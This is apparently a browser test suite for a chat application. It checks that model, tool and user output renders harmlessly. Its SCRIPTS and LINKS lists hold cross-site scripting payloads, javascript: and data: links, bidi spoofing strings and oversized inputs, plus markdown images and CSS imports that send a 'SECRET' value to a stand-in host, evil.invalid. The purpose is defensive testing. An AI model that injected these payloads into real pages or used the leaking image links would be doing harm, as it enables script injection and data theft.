"""What a hostile model, tool or person writes renders harmlessly."""

from __future__ import annotations

import json
from typing import Any

from playwright.sync_api import Route, expect

from tests.browser.drive import Chat, Screens
from tests.browser.states import MODEL
from tests.model_server import ModelServer
from tests.servers import Site

EVIL = "http://evil.invalid"
SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{EVIL}/pixel?secret=1">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img title='</style><img src onerror=alert(1)>'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=/x><button formaction=javascript:alert(1)>x</button></form>",
    f"<style>@import '{EVIL}/css'; * {{ background: url({EVIL}/bg) }}</style>",
    f'<link rel="prefetch" href="{EVIL}/prefetch">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "{{ constructor.constructor('alert(1)')() }}",
    "</script><script>alert(1)</script>",
    "<!--<script>",
]
LINKS = [
    "[a](javascript:alert(1))",
    "[b](JaVaScRiPt&colon;alert(1))",
    "[c](data:text/html,<script>alert(1)</script>)",
    f"![d]({EVIL}/?d=SECRET)",
    f"![e][r]\n\n[r]: {EVIL}/?e=SECRET",
    f"[![f]({EVIL}/f)]({EVIL}/g)",
    "![g](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f"<{EVIL}/auto>",
    f"$\\includegraphics{{{EVIL}/tex}} \\href{{javascript:alert(1)}}{{x}}$",
    "$$\\def\\x{\\x\\x}\\x$$",
    "$$\\vec{v} \\fcolorbox{red}{blue}{x} \\rule{1000em}{1000em} \\text{<b>}$$",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`" * 5000 + "[" * 5000 + "*" * 5000 + ">" * 3000,
]
DIRECTIONS = (
    "a\u202egpj.exe\u202c b\u200b\u200c\u200d\ufeff c\u2066\u2067\u2068 שלום مرحبا"
)
CORPUS = "\n\n".join([*SCRIPTS, *LINKS, DIRECTIONS])
TABLE = "| n | what |\n|---|---|\n" + "".join(
    f"| {n} | <img src=x onerror=alert({n})> |\n" for n in range(10_000)
)


def play(model: ModelServer, *rounds: list[dict[str, Any]]) -> None:
    """What the model answers next."""
    model.add(MODEL, {"rounds": [{"actions": actions} for actions in rounds]})


def assert_harmless(chat: Chat) -> None:
    """No element that could act, no request, no complaint."""
    forbidden = (
        "script, iframe, object, embed, form, svg, style, link, meta, base, input"
    )
    # KaTeX draws roots and arrows with elements that it makes itself, and the page its
    # own drawings: which are named, not given.
    ours = "#transcript :not(.katex *, .icon, .mark > svg)"
    assert chat.page.locator(f"{ours}:is({forbidden})").count() == 0
    assert chat.page.locator(f"{ours}[style], #transcript [onerror]").count() == 0
    addresses: list[str] = chat.page.evaluate(
        "() => [...document.querySelectorAll('#transcript a')].map((a) => a.protocol)"
    )
    assert set(addresses) <= {"http:", "https:", "mailto:"}
    chat.assert_clean()


def test_in_messages_thoughts_and_answers(screens: Screens, model: ModelServer) -> None:
    """And in the title, which is made of the message."""
    play(model, [{"reasoning": CORPUS, "piece": 400}, {"text": CORPUS, "piece": 400}])
    chat = screens.chat().open()
    chat.page.set_default_timeout(60_000)
    chat.say(SCRIPTS[0] + CORPUS).finished()
    chat.unfold()
    assert_harmless(chat)
    assert "<script>alert(1)</script>" in chat.text()
    expect(chat.page.locator("#title")).to_contain_text("<script>")
    expect(chat.page.locator(".chat").first).to_contain_text("<script>")
    chat.reload()
    assert_harmless(chat)


def test_in_pieces_as_it_streams(screens: Screens, model: ModelServer) -> None:
    """Half a tag is as harmless as a whole one."""
    pieces = [*SCRIPTS, *(link for link in LINKS if len(link) < 1000)]
    play(model, [{"text": "\n\n".join(pieces), "piece": 3, "rate": 250}])
    chat = screens.chat().open().say("Go")
    while chat.page.locator('[data-status="finished"]').count() == 0:
        assert_harmless(chat)
        chat.page.wait_for_timeout(50)
    assert_harmless(chat)


def test_in_tool_names_arguments_and_results(
    screens: Screens, model: ModelServer
) -> None:
    """The calculator refuses, quoting what it was given."""
    call = {"name": SCRIPTS[1], "arguments": json.dumps({SCRIPTS[0]: CORPUS})}
    again = {"name": "calculator", "arguments": {"expression": SCRIPTS[1]}}
    play(model, [{"call": call}], [{"call": again}], [{"text": "Done. {result}"}])
    chat = screens.chat().open().say("Go").finished()
    chat.unfold()
    assert_harmless(chat)


def test_a_line_of_1_mb(screens: Screens, model: ModelServer) -> None:
    """Shown as it is; the page goes on answering."""
    play(model, [{"text": "*a* [b](c " * 100_000, "piece": 20_000}])
    chat = screens.chat().open().say("Go").finished()
    shown = chat.page.eval_on_selector(".prose", "e => e.textContent.length")
    assert shown >= 999_999
    chat.page.fill("#message", "still here")
    assert_harmless(chat)


def test_a_table_of_10000_rows(screens: Screens, model: ModelServer) -> None:
    """The first rows, and the rest when asked for."""
    play(model, [{"text": TABLE, "piece": 20_000}])
    chat = screens.chat().open().say("Go").finished()
    rows = chat.page.locator("tbody tr")
    expect(rows).to_have_count(200)
    chat.page.get_by_role("button", name="more of 9,800 rows").click()
    expect(rows).to_have_count(2200)
    assert_harmless(chat)


def test_a_remote_image_loads_when_asked_for_and_nothing_else(
    screens: Screens, model: ModelServer
) -> None:
    """In a frame of its own; the page itself still loads nothing from elsewhere."""
    picture = f"{EVIL}/picture.svg"
    linked = f"[![f]({EVIL}/f.png)](https://example.com/)"
    play(model, [{"text": f"![A picture]({picture})\n\n{linked}"}])
    chat = screens.chat().open().say("Go").finished()
    asked: list[tuple[str, str | None]] = []

    def serve(route: Route) -> None:
        asked.append((route.request.url, route.request.header_value("referer")))
        svg = (
            '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">'
            "<script>alert(1)</script></svg>"
        )
        route.fulfill(body=svg, content_type="image/svg+xml")

    chat.page.route(f"{EVIL}/**", serve)
    button = chat.page.locator(".remote-image").first
    expect(button).to_contain_text(picture)
    assert_harmless(chat)
    button.focus()
    chat.page.keyboard.press("Enter")
    frame = chat.page.frame_locator(".remote-frame")
    shown = frame.get_by_role("img", name="A picture")
    expect(shown).to_have_js_property("naturalWidth", 40)
    assert asked == [(picture, None)]
    expect(button).to_be_focused()
    chat.page.keyboard.press("Enter")
    expect(chat.page.locator(".remote-frame")).to_have_count(0)
    assert chat.page.locator("#transcript a").get_attribute("href") == (
        "https://example.com/"
    )
    assert not chat.wrongs, chat.wrongs


def test_in_names_of_agents_and_titles(screens: Screens, site: Site) -> None:
    """Of an agent that is not there, of one that once was, of a chat renamed."""
    name = "".join(SCRIPTS)
    chat = screens.chat().open().say("[scenario hello]").finished()
    page = chat.page
    page.evaluate(
        "(name) => { document.querySelector('#agent option').value = name; }", name
    )
    chat.say("Go")
    expect(page.locator(".is-pending")).to_contain_text("Not sent.")
    assert_harmless(chat)
    page.get_by_role("button", name="Cancel").click()
    # As stored by a site that had such an agent.
    rename = (
        "from chat.models import Event, Run, Session; import json, sys;"
        f"name = {name!r};"
        "run = Run.objects.get(session_id=sys.argv[-1]);"
        "Run.objects.filter(pk=run.pk).update(agent_name=name[:64]);"
        "Session.objects.filter(pk=run.session_id)"
        ".update(agent_name=name[:64], title=name[:200]);"
        "event = Event.objects.get(run=run, seq=1);"
        "payload = json.loads(event.payload) | {'agent_name': name};"
        "Event.objects.filter(run=run, seq=1)"
        ".update(payload=json.dumps(payload))"
    )
    session_id = page.url.rsplit("/", 1)[-1]
    site.manage("shell", "--command", rename.replace("sys.argv[-1]", repr(session_id)))
    chat.reload()
    expect(page.locator(".answer__by")).to_contain_text("<script>")
    expect(page.locator("#title")).to_contain_text("<script>")
    assert_harmless(chat)
